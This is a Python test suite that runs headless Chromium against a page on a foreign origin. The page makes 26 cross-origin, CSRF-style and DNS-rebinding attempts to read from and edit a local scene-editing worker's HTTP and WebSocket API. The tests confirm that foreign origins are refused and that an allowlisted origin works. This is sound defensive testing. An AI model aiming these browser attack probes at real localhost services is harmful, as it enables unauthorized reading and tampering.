#!/usr/bin/env python3
"""A page on another origin, in a real browser (Debian's chromium), on a machine where a worker
lets every caller edit: it reads nothing, changes nothing. A page that is listed may: so the
attempts themselves are known to work.
"""

import http.server
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from urllib.parse import urlsplit

from content import deploy_state, lamp_scene
from world import Skip, run_tests

WAIT = 150
PAGE = """<!doctype html><title>page</title><body><script>
const BASE = "%(base)s", REBOUND = "%(rebound)s", told = {};
const later = (ms) => new Promise((r) => setTimeout(r, ms));
const limited = (p) => Promise.race([p, later(30000).then(() => "no answer")]);
const edit = JSON.stringify({eventType: "stateEvent", payload: {type: "AddEntity", payload: {entityId: "from-page", components: []}}});
async function attempt(name, f) {
  try { told[name] = String(await limited(f())).slice(0, 300); } catch (e) { told[name] = "refused: " + e.name; }
}
const read = (path, options, base) => async () => { const a = await fetch((base || BASE) + path, options); return a.status + " " + a.type + " " + await a.text(); };
function element(tag, name, value) {
  return () => new Promise((r) => { const e = document.createElement(tag); e.onload = () => r("loaded"); e.onerror = () => r("refused: error");
    e[name] = value; document.body.appendChild(e); });
}
function socket(url) {
  return () => new Promise((r) => { const s = new WebSocket(url); let seen = "";
    s.onopen = () => { s.send(edit); setTimeout(() => r("open " + seen), 1500); };
    s.onmessage = (m) => { seen += m.data.slice(0, 200); }; s.onerror = () => r("refused: error"); s.onclose = () => r("refused: closed"); });
}
(async () => {
  await attempt("snapshot", read("/v1/snapshot"));
  await attempt("status", read("/v1/status"));
  await attempt("code", read("/v1/code"));
  await attempt("blind read", read("/v1/snapshot", {mode: "no-cors"}));
  await attempt("credentials", read("/v1/snapshot", {credentials: "include"}));
  await attempt("save", read("/v1/save", {method: "POST", body: "{}"}));
  await attempt("save, blind", read("/v1/save", {method: "POST", body: "{}", mode: "no-cors"}));
  await attempt("play, blind", read("/v1/play", {method: "POST", body: "{}", mode: "no-cors"}));
  await attempt("save, as JSON", read("/v1/save", {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}}));
  await attempt("unpublish", read("/v1/unpublish", {method: "POST", body: "{}", mode: "no-cors"}));
  await attempt("put", read("/v1/snapshot", {method: "PUT", body: "{}"}));
  await attempt("token", read("/v1/snapshot?token=ss1_x"));
  await attempt("header", read("/v1/snapshot", {headers: {"X-Forwarded-For": "127.0.0.1"}}));
  await attempt("beacon", async () => navigator.sendBeacon(BASE + "/v1/save", "{}") && "sent, tells nothing");
  await attempt("xhr", () => new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", BASE + "/v1/snapshot");
    x.onload = () => r(x.status + " " + x.responseText); x.onerror = () => r("refused: error"); x.send(); }));
  await attempt("script", element("script", "src", BASE + "/v1/code"));
  await attempt("image", element("img", "src", BASE + "/v1/snapshot"));
  await attempt("style", () => new Promise((r) => { const e = document.createElement("link"); e.rel = "stylesheet"; e.onload = () => r("loaded");
    e.onerror = () => r("refused: error"); e.href = BASE + "/v1/snapshot"; document.head.appendChild(e); }));
  await attempt("frame", () => new Promise((r) => { const e = document.createElement("iframe"); e.src = BASE + "/v1/snapshot"; document.body.appendChild(e);
    setTimeout(() => { try { r("read " + e.contentDocument.body.innerText); } catch (x) { r("refused: " + x.name); } }, 1000); }));
  await attempt("form", () => new Promise((r) => { const f = document.createElement("form"); f.method = "POST"; f.action = BASE + "/v1/save"; f.enctype = "text/plain";
    const w = document.createElement("iframe"); w.name = "target"; document.body.appendChild(w); f.target = "target"; document.body.appendChild(f); f.submit();
    setTimeout(() => r("sent, tells nothing"), 800); }));
  await attempt("events", () => new Promise((r) => { const e = new EventSource(BASE + "/v1/status"); e.onmessage = (m) => r(m.data); e.onerror = () => { e.close(); r("refused: error"); }; }));
  await attempt("socket", socket(BASE.replace("http", "ws") + "/renderer"));
  await attempt("socket, name", socket(BASE.replace("http", "ws") + "/renderer?name=page&token=ss1_x"));
  await attempt("rebound", read("/v1/snapshot", {}, REBOUND));
  await attempt("rebound, blind", read("/v1/save", {method: "POST", body: "{}", mode: "no-cors"}, REBOUND));
  await attempt("rebound socket", socket(REBOUND.replace("http", "ws") + "/renderer"));
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script></body>"""


class Site(http.server.ThreadingHTTPServer):
    """The attacker's own server: it serves the page, and hears what came of it."""

    daemon_threads = True

    def __init__(self):
        self.page = b""
        self.told = None
        self.heard = threading.Event()
        super().__init__(("127.0.0.1", 0), Visit)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Visit(http.server.BaseHTTPRequestHandler):
    def answer(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.answer(self.server.page if self.path == "/" else b"")

    def do_POST(self):
        self.server.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.answer(b"")
        self.server.heard.set()

    def log_message(self, *_):
        pass


def browser(*arguments):
    program = next((p for p in ("chromium", "chromium-browser", "google-chrome") if shutil.which(p)), None)
    if program is None:
        raise Skip("chromium is not installed")
    folder = tempfile.mkdtemp(prefix="scenesync-browser-")
    words = [program, "--headless=new", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync",
             "--disable-component-update", f"--user-data-dir={folder}", "--host-resolver-rules=MAP rebound.example 127.0.0.1",
             *(["--no-sandbox"] if os.geteuid() == 0 else []), *arguments]
    environment = dict(os.environ, HOME=folder)
    return subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment, start_new_session=True), folder


def end(process, folder):
    if process.poll() is None:
        os.killpg(process.pid, 9)
    process.communicate()
    shutil.rmtree(folder, ignore_errors=True)


def visit(site, origin, worker):
    """Let the browser see the page at `origin`; what it could do."""
    port = urlsplit(worker.http).port
    site.page = (PAGE % {"base": worker.http, "rebound": f"http://rebound.example:{port}"}).encode()
    site.told = None
    site.heard.clear()
    process, folder = browser(origin + "/")
    try:
        heard = site.heard.wait(WAIT)
    finally:
        end(process, folder)
    if not heard:
        raise Skip("chromium does not run here: it showed no page")
    return site.told


def worker_of(world, name, *arguments):
    servers = world.servers(f"servers-{name}")
    deploy_state(servers, world.scene, lamp_scene())
    worker = world.worker(name, *arguments, servers=servers, role=None)  # callers on this machine may edit
    world.wait(lambda: worker.status["state"] == "editing", "the scene is there")
    return worker


def test_foreign_pages(world):
    """From another port and another name of this very machine: all is refused."""
    site = Site()
    port = site.server_address[1]
    worker = worker_of(world, "victim")
    before, shown = worker.mark, worker.snapshot
    saved = json.dumps(worker.status["save"], sort_keys=True)
    for origin in (f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://rebound.example:{port}"):
        told = visit(site, origin, worker)
        assert len(told) == 26, told
        print(f"{origin}: {len(told)} attempts; " + "; ".join(f"{k}: {v[:40]}" for k, v in told.items()))
        for name, what in told.items():
            assert "lamp" not in what and "open" not in what, (origin, name, what)
            harmless = what.startswith(("refused: ", "sent, tells nothing", "no answer", "0 opaque "))
            assert harmless, (origin, name, what)
        assert worker.mark == before and worker.snapshot == shown, f"{origin} changed something"
        assert json.dumps(worker.status["save"], sort_keys=True) == saved, f"{origin} had it saved"
    refused = worker.status["refused"]
    assert refused["origin"] > 20 and refused["host"] > 0, refused


def test_listed_page(world):
    """The same page, on an origin that may: it reads, and edits."""
    site = Site()
    origin = f"http://127.0.0.1:{site.server_address[1]}"
    worker = worker_of(world, "open", "--origin", origin)
    told = visit(site, origin, worker)
    assert "lamp0" in told["snapshot"] and told["snapshot"].startswith("200"), told
    assert told["socket"].startswith("open"), told
    assert told["rebound"].startswith("refused"), told
    world.wait(lambda: "from-page" in worker.entities, "the page has edited")


def test_rebound_name(world):
    """A name of the attacker that points at this machine: the browser's own request says it."""
    worker = worker_of(world, "victim")
    port = urlsplit(worker.http).port
    for name, there in (("rebound.example", False), ("127.0.0.1", True)):
        process, folder = browser("--dump-dom", "--timeout=20000", f"http://{name}:{port}/v1/snapshot")
        try:
            shown = process.communicate(timeout=WAIT)[0]
        finally:
            end(process, folder)
        if there and b"lamp1" not in shown:
            raise Skip("chromium does not run here: it shows nothing")
        assert (b"lamp1" in shown) == there, (name, shown[:300])
    assert worker.status["refused"]["host"] > 0


if __name__ == "__main__":
    sys.exit(run_tests("browser", dict(globals())))
